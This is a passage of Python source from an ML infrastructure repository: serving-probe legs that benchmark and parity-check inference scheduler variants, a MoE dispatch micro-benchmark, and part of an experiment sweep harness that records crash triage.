    q_p50 = res.m["ttft_queue"].quantile(0.5)
    c_p50 = res.m["ttft_prefill"].quantile(0.5)
    t_max = res.m["ttft"].max
    split_ok = (q_cnt == n and c_cnt == n
                and q_p50 <= t_max and c_p50 <= t_max)

    bytes_base = base.m["attn_bytes"].labels(impl="jax").value
    bytes_res = res.m["attn_bytes"].labels(impl=impl_p).value
    report = res.attn_report()
    bytes_ok = (bytes_base > 0 and bytes_res > 0
                and "prefill_impl" in report
                and report["prefill_impl"] == impl_p)

    # when bass resolves for the prefill class, the gathered copy must
    # not exist in the lowered prefill dispatch: its [1, MB*BS, KV, hd]
    # intermediate is the exact shape the kernel exists to avoid
    gather_absent = None
    if impl_p == "bass":
        mb_bs = res.max_blocks_per_seq * res.sc.block_size
        needle = f"[1,{mb_bs},{cfg.n_kv_heads},{cfg.head_dim}]"
        txt = res._prefill_jit.lower(
            res.params, res.pool,
            jnp.zeros((chunk,), jnp.int32),
            jnp.asarray(res._tables[0]),
            np.int32(0), np.int32(chunk)).as_text()
        gather_absent = needle not in txt

    # disagg prefill pool: a KO_INFER_ROLE=prefill scheduler (no
    # handoff wired → it decodes locally after the first token) must
    # resolve the same prefill path and keep bitwise parity
    pre = make(None, MetricsRegistry(), role="prefill")
    _, outs_pre = run_closed_loop(pre, reqs, slots)
    parity_pre = outs_pre == outs_base
    role_impl_ok = pre.attn_impl_by_class.get("prefill", "jax") == impl_p

    def leaked(sched):
        if sched.prefix is not None:
            sched.prefix.clear()
        return sched.alloc.capacity - sched.alloc.num_free
    leak = {"jax": leaked(base), "resolved": leaked(res),
            "prefill_role": leaked(pre)}
    blocks_leaked = sum(leak.values())

    p50_base, p50_res = lv_base["ttft_p50_ms"], lv_res["ttft_p50_ms"]
    ttft_ok = bool(p50_base and p50_res and p50_res <= p50_base * 1.5)
    result = {
        "metric": "serve_prefill_attn",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "impl": impl,
        "prefill_impl": impl_p,
        "sched": {"slots": slots, "block_size": res.sc.block_size,
                  "num_blocks": res.sc.num_blocks,
                  "prefill_chunk": res.sc.prefill_chunk},
        "baseline_jax": lv_base,
        "resolved": lv_res,
        "ttft_p50_ms_jax": p50_base,
        "ttft_p50_ms_resolved": p50_res,
        "ttft_p95_ms_jax": lv_base["ttft_p95_ms"],
        "ttft_p95_ms_resolved": lv_res["ttft_p95_ms"],
        "ttft_split": {
            "queue_p50_ms": (round(q_p50 * 1e3, 3)
                             if q_p50 == q_p50 else None),
            "prefill_p50_ms": (round(c_p50 * 1e3, 3)
                               if c_p50 == c_p50 else None)},
        "attn_bytes_jax": int(bytes_base),
        "attn_bytes_resolved": int(bytes_res),
        "attn_report": report,
        "parity_temp0_resolved_vs_jax": parity,
        "parity_temp0_prefill_role_vs_jax": parity_pre,
        "prefill_role_impl_matches": role_impl_ok,
        "ttft_p50_within_slack": ttft_ok,
        "ttft_split_live": split_ok,
        "attn_bytes_accounted": bytes_ok,
        "gathered_copy_absent": gather_absent,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leak,
    }
    log(f"probe: prefill_attn impl={impl_p} "
        f"ttft_p50 jax={p50_base}ms resolved={p50_res}ms "
        f"parity={parity}/{parity_pre} split_live={split_ok} "
        f"bytes={int(bytes_res)}/{int(bytes_base)} "
        f"leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (not parity or not parity_pre or not role_impl_ok or not ttft_ok
            or not split_ok or not bytes_ok or blocks_leaked != 0
            or gather_absent is False):
        sys.exit(1)


def run_sample_leg(args, cfg, params, platform, fast):
    """On-chip sampling leg (ISSUE 20): fused decode-and-sample
    dispatch against the KO_SAMPLE_FUSED=0 legacy host sampler on the
    same request set.

      * temp-0 token parity must be bitwise — fusing the sampler into
        the decode jit can only change what crosses the link, never
        the committed stream;
      * a temp>0/top-k pass with pinned per-request seeds must also be
        bitwise identical: the device-resident fold_in key chain
        replicates the host chain exactly, so "distribution-identical"
        is checked as stream-identical;
      * zero [NS, V] device->host transfers under the fused scheduler:
        the {impl="host"} sample-bytes counter must not advance, the
        resolved-impl counter must, and the legacy run must show
        host bytes > 0 (the accounting is live, not vacuously zero);
      * the fused dispatch's output avals must not contain any
        vocab-width array — eval_shape over the decode-and-sample jit
        proves only [NS]-shaped token/logprob rows (plus key state and
        the donated pool) cross the boundary;
      * decode ITL p95 under the fused sampler must not be worse than
        legacy (<= 1.0x): on CPU the fused path replaces a [NS, V]
        transfer + host numpy argmax with an in-jit argmax, so it has
        no excuse to lose.

    All gates fail the probe's exit code."""
    import jax
    import jax.numpy as jnp
    import numpy as np

    from kubeoperator_trn.infer.scheduler import (
        ContinuousBatchingScheduler, SchedulerConfig)
    from kubeoperator_trn.telemetry import MetricsRegistry

    n = 12 if fast else 24
    max_new = 24 if fast else 48
    slots = 4
    reqs = make_requests(cfg, n, max_new, seed=args.seed)
    temp_kw = [{"temperature": 0.8, "top_k": 8, "seed": 1000 + i}
               for i in range(n)]

    def make(fused, registry):
        prev = os.environ.get("KO_SAMPLE_FUSED")
        os.environ["KO_SAMPLE_FUSED"] = "1" if fused else "0"
        try:
            return ContinuousBatchingScheduler(
                cfg, params, SchedulerConfig(slots=slots),
                registry=registry)
        finally:
            if prev is None:
                os.environ.pop("KO_SAMPLE_FUSED", None)
            else:
                os.environ["KO_SAMPLE_FUSED"] = prev

    log(f"probe: sample leg n={n} max_new={max_new} slots={slots}")

    # warmup: throwaway schedulers trace both modes' shape buckets so
    # the measured passes time steady-state dispatches
    log("probe: sample warmup (tracing shape buckets)")
    run_closed_loop(make(False, MetricsRegistry()), reqs, slots)
    run_closed_loop(make(True, MetricsRegistry()), reqs, slots)

    base = make(False, MetricsRegistry())
    lv_base, outs_base = run_closed_loop(base, reqs, slots)
    itl_base = base.m["itl"].quantile(0.95)

    res = make(True, MetricsRegistry())
    impl = res.sample_impl
    lv_res, outs_res = run_closed_loop(res, reqs, slots)
    itl_res = res.m["itl"].quantile(0.95)
    parity = outs_res == outs_base

    # temp>0/top-k with pinned seeds: the streams must still match
    # bitwise (device key chain == host key chain)
    base_t = make(False, MetricsRegistry())
    _, outs_base_t = run_closed_loop(base_t, reqs, slots,
                                     submit_kw=temp_kw)
    res_t = make(True, MetricsRegistry())
    _, outs_res_t = run_closed_loop(res_t, reqs, slots,
                                    submit_kw=temp_kw)
    parity_temp = outs_res_t == outs_base_t

    bytes_base_host = base.m["sample_bytes"].labels(impl="host").value
    bytes_res_host = res.m["sample_bytes"].labels(impl="host").value
    bytes_res_impl = res.m["sample_bytes"].labels(impl=impl).value
    bytes_res_t_host = res_t.m["sample_bytes"].labels(impl="host").value
    report = res.sample_report()
    bytes_ok = (bytes_base_host > 0 and bytes_res_host == 0
                and bytes_res_t_host == 0 and bytes_res_impl > 0
                and report["step_bytes"] < report["step_bytes_legacy"])

    # the fused decode dispatch may only return [NS]-shaped token and
    # logprob rows, the [NS, 2] key state, and the donated pool: no
    # vocab-width leaf crosses the dispatch boundary
    cap = res._tk_cap([])
    out_sds = res._decode_sample_jit.eval_shape(
        res.params, res.pool, jnp.asarray(res._tokens),
        jnp.asarray(res._lens), jnp.asarray(res._tables), res._keys,
        jnp.asarray(res._steps, jnp.int32),
        jnp.asarray(res._temps, jnp.float32),
        jnp.asarray(res._topks, jnp.int32), cap, True, True)
    leaves = jax.tree_util.tree_leaves(out_sds)
    vocab_free = not any(
        len(l.shape) >= 2 and l.shape[-1] >= cfg.vocab_size
        for l in leaves)

    def leaked(sched):
        if sched.prefix is not None:
            sched.prefix.clear()
        return sched.alloc.capacity - sched.alloc.num_free
    leak = {"legacy": leaked(base), "fused": leaked(res),
            "legacy_temp": leaked(base_t), "fused_temp": leaked(res_t)}
    blocks_leaked = sum(leak.values())

    itl_ok = (itl_base == itl_base and itl_res == itl_res
              and itl_res <= itl_base)
    result = {
        "metric": "serve_sample",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": n,
        "impl": impl,
        "sched": {"slots": slots, "block_size": res.sc.block_size,
                  "num_blocks": res.sc.num_blocks,
                  "prefill_chunk": res.sc.prefill_chunk},
        "legacy": lv_base,
        "fused": lv_res,
        "itl_p95_ms_legacy": (round(itl_base * 1e3, 3)
                              if itl_base == itl_base else None),
        "itl_p95_ms_fused": (round(itl_res * 1e3, 3)
                             if itl_res == itl_res else None),
        "sample_bytes_legacy_host": int(bytes_base_host),
        "sample_bytes_fused_host": int(bytes_res_host),
        "sample_bytes_fused_impl": int(bytes_res_impl),
        "sample_report": report,
        "parity_temp0_fused_vs_legacy": parity,
        "parity_temp_topk_fused_vs_legacy": parity_temp,
        "itl_p95_not_worse": itl_ok,
        "sample_bytes_accounted": bytes_ok,
        "vocab_free_dispatch": vocab_free,
        "blocks_leaked": blocks_leaked,
        "leak_detail": leak,
    }
    log(f"probe: sample impl={impl} "
        f"itl_p95 legacy={result['itl_p95_ms_legacy']}ms "
        f"fused={result['itl_p95_ms_fused']}ms parity={parity} "
        f"parity_temp={parity_temp} "
        f"host_bytes={int(bytes_res_host)}/{int(bytes_base_host)} "
        f"vocab_free={vocab_free} leaked={blocks_leaked}")
    emit(json.dumps(result))
    if (not parity or not parity_temp or not itl_ok or not bytes_ok
            or not vocab_free or blocks_leaked != 0):
        sys.exit(1)


def main():
    _claim_stdout()
    fast = os.environ.get("KO_PROBE_FAST", "") == "1"
    ap = argparse.ArgumentParser()
    ap.add_argument("--preset", default="llama3_tiny")
    ap.add_argument("--requests", type=int, default=24 if fast else 64)
    ap.add_argument("--max-new", type=int, default=32 if fast else 64)
    ap.add_argument("--concurrency", type=int, nargs="*", default=[1, 8])
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--leg",
                    choices=["scaling", "prefix", "disagg", "spec",
                             "paged_attn", "prefill_attn", "trace",
                             "sample"],
                    default="scaling")
    args = ap.parse_args()

    import jax

    from kubeoperator_trn.infer import engine
    from kubeoperator_trn.infer.scheduler import ContinuousBatchingScheduler
    from kubeoperator_trn.models import llama

    cfg = llama.PRESETS[args.preset]
    platform = jax.devices()[0].platform
    log(f"probe: platform={platform} preset={args.preset} "
        f"requests={args.requests} max_new={args.max_new} fast={fast} "
        f"leg={args.leg}")

    params = llama.init_params_numpy(cfg, args.seed)
    if args.leg == "prefix":
        run_prefix_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "disagg":
        run_disagg_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "spec":
        run_spec_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "paged_attn":
        run_paged_attn_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "prefill_attn":
        run_prefill_attn_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "trace":
        run_trace_leg(args, cfg, params, platform, fast)
        return
    if args.leg == "sample":
        run_sample_leg(args, cfg, params, platform, fast)
        return
    reqs = make_requests(cfg, args.requests, args.max_new, args.seed)
    sched = ContinuousBatchingScheduler(cfg, params)
    log(f"probe: slots={sched.sc.slots} block={sched.sc.block_size} "
        f"chunk={sched.sc.prefill_chunk} kv_blocks={sched.sc.num_blocks}")

    compiles = engine._infer_metrics()["compiles"]

    # Warmup: one unmeasured replay of each path traces every shape
    # bucket (paged prefill/decode + generate's pow2 buckets).
    log("probe: warmup (tracing shape buckets)")
    run_closed_loop(sched, reqs, max(args.concurrency))
    _, seq_warm = run_sequential(cfg, params, reqs)
    warm_compiles = compiles.value

    baseline, seq_outs = run_sequential(cfg, params, reqs)
    log(f"probe: sequential generate {baseline['agg_decode_tps']} tok/s")

    levels = []
    parity_ok = True
    for c in args.concurrency:
        level, outs = run_closed_loop(sched, reqs, c)
        if outs != seq_outs:
            parity_ok = False
            log(f"probe: PARITY MISMATCH at concurrency {c}")
        levels.append(level)
        log(f"probe: c={c} {level['agg_decode_tps']} tok/s "
            f"ttft_p50={level['ttft_p50_ms']}ms "
            f"occ={level['mean_occupancy']}")

    compiles_after = compiles.value
    by_c = {lv["concurrency"]: lv["agg_decode_tps"] for lv in levels}
    lo, hi = min(by_c), max(by_c)
    scaling = round(by_c[hi] / by_c[lo], 2) if lo != hi else 1.0

    # the prefix cache legitimately retains refcount-0 blocks across the
    # drain; hand them back before auditing the free list for leaks
    if sched.prefix is not None:
        sched.prefix.clear()

    result = {
        "metric": "serve_continuous_batching",
        "platform": platform,
        "preset": args.preset,
        "fast": fast,
        "requests": args.requests,
        "sched": {"slots": sched.sc.slots,
                  "block_size": sched.sc.block_size,
                  "num_blocks": sched.sc.num_blocks,
                  "prefill_chunk": sched.sc.prefill_chunk},
        "sequential_baseline": baseline,
        "levels": levels,
        "scaling": scaling,
        "scaling_span": [lo, hi],
        "parity_temp0": parity_ok,
        "compiles_total": warm_compiles,
        "compiles_after_warmup": compiles_after - warm_compiles,
        "blocks_leaked": sched.alloc.capacity - sched.alloc.num_free,
    }
    log(f"probe: scaling {lo}->{hi} = {scaling}x  parity={parity_ok}  "
        f"post-warmup compiles={result['compiles_after_warmup']}")
    emit(json.dumps(result))
    if not parity_ok or result["compiles_after_warmup"] > 0 \
            or result["blocks_leaked"] != 0:
        sys.exit(1)


if __name__ == "__main__":
    main()
