"""MoE dispatch micro-probe: sort-based grouped vs legacy one-hot einsum.

Bench shape (moe_200m, bsz 256, seq 128): T = 32768 token slots route
top-2 into E = 8 experts with per-expert capacity C = 10240.  The einsum
dispatch materializes TWO [T, E, C] f32 one-hot tensors (dispatch and
combine masks, ~10.7 GiB each) and contracts them against the [T, D]
activations — O(T·E·C·D) FLOPs for what is really a permutation.  The
grouped path argsorts the T·k expert assignments (stable, so per-expert
position order matches the einsum cumsum exactly → identical drops) and
builds the same [E, C, D] buffer with one gather: O(T·k log T·k) index
work and zero score-shaped intermediates.

This probe
  1. times value_and_grad of the full MoE loss under both dispatch
     impls on a scaled CPU shape (wall clock is a sanity signal only),
  2. checks temp-0 parity — loss, grads, and tight-capacity drop counts
     must agree — and FAILS the process (exit 1) if they don't,
  3. reports the analytic dispatch FLOPs/HBM bytes at the real bench
     shape and FAILS unless grouped wins both by >= 4x.

Writes one JSON line to stdout; diagnostics to stderr.
KO_PROBE_FAST=1 shrinks the probe shape and timing reps for CI.
"""

import argparse
import dataclasses
import json
import math
import os
import statistics
import sys
import time

# runnable as `python tools/moe_probe.py` from anywhere
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

_REAL_STDOUT = os.dup(1)
os.dup2(2, 1)

#: required analytic advantage at the bench shape (ISSUE 10 acceptance)
MIN_RATIO = 4.0


def emit(line):
    os.write(_REAL_STDOUT, (line + "\n").encode())


def log(msg):
    print(msg, file=sys.stderr, flush=True)


def med_time(fn, *args, n=5):
    import jax

    jax.block_until_ready(fn(*args))
    ts = []
    for _ in range(n):
        t0 = time.time()
        jax.block_until_ready(fn(*args))
        ts.append(time.time() - t0)
    return statistics.median(ts)


def dispatch_cost(impl: str, t: int, e: int, c: int, d: int, k: int) -> dict:
    """Analytic f32 FLOPs and HBM bytes for ONE layer's dispatch+combine
    (expert FFN excluded — identical under both impls).

    einsum: builds disp/comb [T,E,C] one-hots (2·T·k·E·C MAC-ish each
    from the tke,tkc contractions), then contracts each against the
    activations (T·E·C·D MACs each).  Bytes: the two [T,E,C] masks plus
    the [T,k,C+1] position one-hot are written and re-read, plus the
    grouped buffer and activations themselves.

    grouped: stable argsort over T·k keys (~T·k·log2(T·k) compare ops),
    O(T·k) segment/position arithmetic, one [E·C] gather and one [T,k]
    gather-combine (2·T·k·D FLOPs for the gate-weighted sum).  Bytes:
    just the grouped buffer + activations + O(T·k) index vectors."""
    if impl == "einsum":
        flops = 4.0 * t * e * c * d + 4.0 * t * k * e * c
        bytes_ = (2.0 * t * e * c + t * k * (c + 1)
                  + 2.0 * e * c * d + 2.0 * t * d) * 4
    else:
        flops = 2.0 * t * k * d + t * k * (e + math.log2(max(t * k, 2)))
        bytes_ = (2.0 * e * c * d + 2.0 * t * d + 6.0 * t * k) * 4
    return {"flops": flops, "bytes": bytes_}


def main():
    fast = os.environ.get("KO_PROBE_FAST", "") not in ("", "0")
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=2 if fast else 4)
    ap.add_argument("--seq", type=int, default=32 if fast else 64)
    ap.add_argument("--reps", type=int, default=2 if fast else 5)
    args = ap.parse_args()

    import jax
    import jax.numpy as jnp
    import numpy as np
    from jax.flatten_util import ravel_pytree

    from kubeoperator_trn.models import moe

    platform = jax.devices()[0].platform
    cfg = moe.MOE_PRESETS["moe_tiny"]
    bench = moe.MOE_PRESETS["moe_200m"]
    bench_t = 256 * 128  # bench.py defaults: bsz 256, seq 128
    bench_c = bench.capacity(bench_t)
    log(f"probe: platform={platform} fast={fast} b={args.batch} "
        f"s={args.seq} E={cfg.n_experts} k={cfg.top_k}")

    key = jax.random.key(0)
    params = moe.init_params(cfg, key)
    tokens = jax.random.randint(
        jax.random.key(1), (args.batch, args.seq + 1), 0, cfg.vocab_size)
    batch = {"inputs": tokens[:, :-1], "targets": tokens[:, 1:]}

    def grad_fn(impl, cfg_=cfg, with_stats=False):
        def f(p, b):
            return moe.loss_fn(
                cfg_, p, b, with_stats=with_stats,
                moe_block_fn=lambda c, x, lp: moe.moe_block_stats(
                    c, x, lp, dispatch=impl))

        return jax.jit(jax.value_and_grad(f, has_aux=with_stats))

    result = {
        "metric": "moe_grouped_vs_einsum",
        "platform": platform,
        "probe_shape": {"batch": args.batch, "seq": args.seq,
                        "n_experts": cfg.n_experts, "top_k": cfg.top_k,
                        "dim": cfg.dim},
        "bench_shape": {"tokens": bench_t, "n_experts": bench.n_experts,
                        "top_k": bench.top_k, "dim": bench.dim,
                        "capacity": bench_c},
        "variants": [],
    }

    outs = {}
    for impl in moe.DISPATCH_IMPLS:
        fn = grad_fn(impl)
        t = med_time(fn, params, batch, n=args.reps)
        loss, grads = fn(params, batch)
        outs[impl] = (float(loss), ravel_pytree(grads)[0])
        cost = dispatch_cost(impl, bench_t, bench.n_experts, bench_c,
                             bench.dim, bench.top_k)
        entry = {"impl": impl, "wall_ms": round(t * 1e3, 2),
                 "bench_dispatch": cost}
        log(f"probe: {impl} {entry['wall_ms']}ms loss={float(loss):.6f} "
            f"bench_flops={cost['flops']:.3e} "
            f"bench_bytes={cost['bytes']/2**30:.2f}GiB")
        result["variants"].append(entry)

    # -- temp-0 parity: loss + grads + tight-capacity drops ------------
    loss_diff = abs(outs["grouped"][0] - outs["einsum"][0])
    grad_diff = float(jnp.max(jnp.abs(outs["grouped"][1]
                                      - outs["einsum"][1])))
    tight = dataclasses.replace(cfg, capacity_factor=0.3)
    drops = {}
    for impl in moe.DISPATCH_IMPLS:
        (_, stats), _ = grad_fn(impl, cfg_=tight, with_stats=True)(
            params, batch)
        drops[impl] = float(np.asarray(stats["moe_dropped_tokens"]))
    parity = {
        "loss_abs_diff": loss_diff,
        "grad_max_diff": grad_diff,
        "dropped_tokens": drops,
        "ok": (loss_diff <= 1e-5 and grad_diff <= 1e-4
               and drops["grouped"] == drops["einsum"]
               and drops["grouped"] > 0),
    }
    log(f"probe: parity loss_diff={loss_diff:.2e} grad_diff={grad_diff:.2e} "
        f"drops={drops} ok={parity['ok']}")

    # -- analytic advantage at the bench shape -------------------------
    ein = dispatch_cost("einsum", bench_t, bench.n_experts, bench_c,
                        bench.dim, bench.top_k)
    grp = dispatch_cost("grouped", bench_t, bench.n_experts, bench_c,
                        bench.dim, bench.top_k)
    ratios = {"flops": ein["flops"] / grp["flops"],
              "bytes": ein["bytes"] / grp["bytes"]}
    result["parity"] = parity
    result["bench_ratio"] = {k: round(v, 1) for k, v in ratios.items()}
    ratios_ok = all(v >= MIN_RATIO for v in ratios.values())
    result["ok"] = bool(parity["ok"] and ratios_ok)
    result["note"] = (
        "grouped = stable-argsort capacity assignment + gather (parity "
        "fallback KO_MOE_DISPATCH=einsum); drops compared at "
        "capacity_factor=0.3 must be equal AND nonzero; bench_ratio is "
        "einsum/grouped analytic dispatch cost at the moe_200m bench "
        f"shape, required >= {MIN_RATIO}x on both axes"
    )
    log(f"probe: ratios flops={ratios['flops']:.1f}x "
        f"bytes={ratios['bytes']:.1f}x ok={result['ok']}")
    emit(json.dumps(result))
    if not result["ok"]:
        sys.exit(1)


if __name__ == "__main__":
    main()
