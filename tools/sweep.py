"""Experiment sweep harness with a crash-triage hook.

The round-5 sweep recorded the moe_ep run as a bare ``rc=139`` — no log
tail, no phase, nothing actionable (SWEEP_r05.jsonl), which is why the
segfault is still undiagnosed.  This harness runs each experiment as a
subprocess and, on nonzero rc, attaches a triage record to the JSONL
row instead of discarding the evidence:

  - ``signal``: decoded from the 128+N / negative-returncode convention
    (rc=139 -> SIGSEGV), so a crash is distinguishable from a clean
    nonzero exit at a glance;
  - ``last_phase``: the last recognizable progress-marker line (bench:/
    launch:/train: prefixes) — localizes the crash to init / compile /
    first step / steady state, which for neuronx-cc failures is the
    whole diagnosis (compile-phase crash => compiler rule, steady-state
    crash => runtime/collective rule; ARCHITECTURE.md compile-safety
    rule 10);
  - ``log_tail``: the last N lines of combined stdout+stderr;
  - ``telemetry_tail``: the last spans from the experiment's
    ``spans.jsonl`` (each experiment runs with KO_TELEMETRY_DIR pointed
    at a scratch dir) — the tracer flushes per-span, so this is
    literally the last thing the process did before dying.

Success rows carry the experiment's final JSON line (bench.py's emit)
under ``result``, matching the historical SWEEP_r*.jsonl schema.

Usage:
  python tools/sweep.py --exps fsdp8,moe_ep --out SWEEP.jsonl
  python tools/sweep.py --cmd "python bench.py" --exps attn_nki
"""

import argparse
import json
import os
import re
import signal as signal_mod
import subprocess
import sys
import tempfile
import time

# runnable as `python tools/sweep.py` from anywhere
REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

#: marker lines that count as execution phases (bench.py / launch.py log
#: prefixes).  The *last* match before a crash is the triage phase.
PHASE_MARKER = re.compile(r"^(bench|launch|train|sweep):", re.MULTILINE)

#: named experiments: env overlays on top of the caller's environment.
#: The reserved "_cmd" key replaces the default bench.py command line
#: (still overridden by an explicit --cmd), so serving experiments can
#: run tools/serve_probe.py with the same triage/telemetry harness.
_SERVE = [sys.executable, os.path.join(REPO, "tools", "serve_probe.py")]
EXPERIMENTS = {
    "fsdp8": {},
    "dp8": {"KO_BENCH_PLAN": "8,1,1,1,1"},
    # moe_ep: EP×FSDP composite — 6th plan field is the ep degree (the
    # round-5 "1,2,1,4,1" row put 4 on tp, which the MoE step rejects;
    # grouped dispatch + expert-sharded FFN run under this plan now).
    "moe_ep": {"KO_BENCH_PRESET": "moe_200m", "KO_BENCH_PLAN": "1,2,1,1,1,4"},
    "bsz512": {"KO_BENCH_BSZ": "512"},
    "attn_dense": {"KO_BENCH_ATTN": "dense"},
    "attn_blockwise": {"KO_BENCH_ATTN": "blockwise"},
    "attn_nki": {"KO_BENCH_ATTN": "nki", "KO_BENCH_NKI": "1"},
    # serving plane: continuous-batching shape scan (infer/scheduler.py).
    # KO_PROBE_FAST is NOT baked in, so chip runs get the full request
    # set; CI sets it in the caller's environment.
    "serve_base": {"_cmd": _SERVE},
    "serve_block64": {"_cmd": _SERVE, "KO_INFER_KV_BLOCK": "64"},
    "serve_block256": {"_cmd": _SERVE, "KO_INFER_KV_BLOCK": "256"},
    "serve_slots4": {"_cmd": _SERVE, "KO_INFER_SLOTS": "4"},
    "serve_slots16": {"_cmd": _SERVE, "KO_INFER_SLOTS": "16",
                      "KO_INFER_QUEUE": "128"},
    "serve_chunk64": {"_cmd": _SERVE, "KO_INFER_PREFILL_CHUNK": "64"},
    "serve_chunk256": {"_cmd": _SERVE, "KO_INFER_PREFILL_CHUNK": "256"},
    # prefix-cache leg (ISSUE 13): cache ON vs OFF on the shared-
    # system-prompt workload; gates hit rate, TTFT speedup, temp-0
    # parity, and the zero-leak block audit via the probe's exit code.
    "serve_prefix": {"_cmd": _SERVE + ["--leg", "prefix"]},
    # disaggregated serving leg (ISSUE 15): mixed vs prefill/decode
    # role-split pools with KV page handoff; gates temp-0 parity, the
    # two-pool zero-leak audit, and decode ITL p95 strictly beating the
    # mixed baseline via the probe's exit code.
    "serve_disagg": {"_cmd": _SERVE + ["--leg", "disagg"]},
    # speculative-decoding leg (ISSUE 16): draft–verify scheduler vs
    # plain decode; gates bitwise temp-0 parity, per-token ITL p95
    # strictly beating non-spec at acceptance >= 0.5, and the zero-leak
    # block audit after rollback-heavy traffic via the probe exit code.
    "serve_spec": {"_cmd": _SERVE + ["--leg", "spec"]},
    # paged-attention impl leg (ISSUE 17): resolved serving attention
    # (bass block-table-walking kernel on neuron, jax elsewhere) vs the
    # pinned gathered-copy einsum; gates bitwise temp-0 parity, the
    # byte-accounting surfaces, the gathered-copy-absent lowering check
    # under bass, and the zero-leak audit via the probe's exit code.
    "serve_paged_attn": {"_cmd": _SERVE + ["--leg", "paged_attn"]},
    # chunked-prefill attention leg (ISSUE 18): resolved prefill-class
    # attention (query-tiled paged-history kernel with fused KV scatter
    # on neuron, jax elsewhere) vs the pinned gathered-copy einsum on a
    # prefill-heavy set; gates bitwise temp-0 parity (incl. a
    # KO_INFER_ROLE=prefill pool), the TTFT queue/compute split, the
    # prefill byte-accounting surfaces, the gathered-copy-absent
    # lowering check under bass, and the zero-leak audit.
    "serve_prefill_attn": {"_cmd": _SERVE + ["--leg", "prefill_attn"]},
    # distributed-tracing leg (ISSUE 19): two-pool disagg run with span
    # export + fleet assembly; gates a complete cross-replica waterfall
    # (queue/prefill/handoff/decode from both pools, zero orphans), an
    # ITL exemplar, tracing-on ITL p95 <= 1.10x tracing-off, and zero
    # spans emitted when sampling is off — via the probe's exit code.
    "serve_trace": {"_cmd": _SERVE + ["--leg", "trace"]},
    # on-chip sampling leg (ISSUE 20): fused decode-and-sample dispatch
    # vs the KO_SAMPLE_FUSED=0 legacy host sampler — gates bitwise
    # temp-0 AND pinned-seed temp/top-k stream parity, zero [NS, V]
    # host transfers (sample-bytes counters + an eval_shape proof that
    # no vocab-width leaf leaves the decode jit), and fused ITL p95
    # <= 1.0x legacy — via the probe's exit code.
    "serve_sample": {"_cmd": _SERVE + ["--leg", "sample"]},
    # robustness plane: live-fire elastic-recovery drill (SIGTERM drain,
    # SIGKILL mid-window, resharded restore) — see tools/doctor_drill.py
    "chaos_drill": {"_cmd": [sys.executable,
                             os.path.join(REPO, "tools", "doctor_drill.py"),
                             "--chaos"]},
    # observability plane: collector/rules/autoscaler/staleness drill
    # (ISSUE 8) — see tools/obs_probe.py
    "obs_probe": {"_cmd": [sys.executable,
                           os.path.join(REPO, "tools", "obs_probe.py")]},
    # MoE router-health SLO drill (ISSUE 19): expert-load imbalance and
    # gated entropy-collapse rules through notify — tools/router_probe.py
    "router_health": {"_cmd": [sys.executable,
                               os.path.join(REPO, "tools", "router_probe.py")]},
    # compile/tune plane (ISSUE 9): autotune loop gates (cold sweep ->
    # cached 0-recompile rerun -> trace-time consult -> CAS round-trip)
    # and the node cache-warm drill — see tools/autotune_probe.py.
    # KO_PROBE_FAST not baked in (same convention as the serve rows).
    "autotune": {"_cmd": [sys.executable,
                          os.path.join(REPO, "tools", "autotune_probe.py")]},
    "neff_warm": {"_cmd": [sys.executable,
                           os.path.join(REPO, "tools", "autotune_probe.py"),
                           "--drill", "warm"]},
    # MoE plane (ISSUE 10): grouped-vs-einsum dispatch microbench +
    # temp-0 parity + analytic FLOPs/HBM accounting — tools/moe_probe.py
    "moe_probe": {"_cmd": [sys.executable,
                           os.path.join(REPO, "tools", "moe_probe.py")]},
    # serving-fleet plane (ISSUE 11): gateway chaos drill — SIGKILL one
    # of three replica stand-ins under closed-loop load, assert zero
    # caller-visible failures, breaker open/half-open recovery, drain
    # protocol — see tools/gateway_probe.py.  KO_PROBE_FAST not baked
    # in (same convention as the serve rows).
    "gateway_probe": {"_cmd": [sys.executable,
                               os.path.join(REPO, "tools",
                                            "gateway_probe.py")]},
    # control-plane durability (ISSUE 12): SIGKILL the ops server
    # mid-create and assert exactly-once phase side effects on resume,
    # persisted restart backoff across engine death, and priority
    # preemption checkpoint/restart — see tools/controlplane_probe.py.
    # KO_PROBE_FAST not baked in (same convention as the serve rows).
    "controlplane_drill": {"_cmd": [sys.executable,
                                    os.path.join(REPO, "tools",
                                                 "controlplane_probe.py")]},
    # static-analysis plane (ISSUE 14): the repo-invariant checker suite
    # (KL001-KL007 + waiver policy) as a sweep row, so invariant drift
    # shows up in SWEEP_r*.jsonl next to the runs it would break.
    "kolint": {"_cmd": [sys.executable, "-m", "tools.kolint"]},
}


def _decode_rc(returncode: int) -> tuple[int, str | None]:
    """Normalize subprocess returncodes to the shell 128+N convention and
    name the signal when there is one."""
    if returncode < 0:
        num = -returncode
        rc = 128 + num
    elif returncode > 128:
        num = returncode - 128
        rc = returncode
    else:
        return returncode, None
    try:
        name = signal_mod.Signals(num).name
    except ValueError:
        name = f"SIG{num}"
    return rc, name


def triage(output: str, returncode: int, *, tail_lines: int = 30) -> dict:
    """Crash evidence for a nonzero exit: decoded signal, last executed
    phase marker, log tail.  Pure function of the captured output."""
    rc, sig = _decode_rc(returncode)
    markers = PHASE_MARKER.finditer(output)
    last_phase = None
    for m in markers:
        last_phase = output[m.start():].splitlines()[0].strip()
    lines = output.splitlines()
    return {
        "rc": rc,
        "signal": sig,
        "last_phase": last_phase,
        "log_tail": lines[-tail_lines:],
    }


def _spans_tail(spans_path: str, n: int = 10) -> list | None:
    """Last n parsed spans from a spans.jsonl, newest last; None when the
    file is absent/empty (experiment died before telemetry configured)."""
    try:
        with open(spans_path) as f:
            lines = f.readlines()
    except OSError:
        return None
    spans = []
    for line in lines[-n:]:
        try:
            spans.append(json.loads(line))
        except json.JSONDecodeError:
            continue
    return spans or None


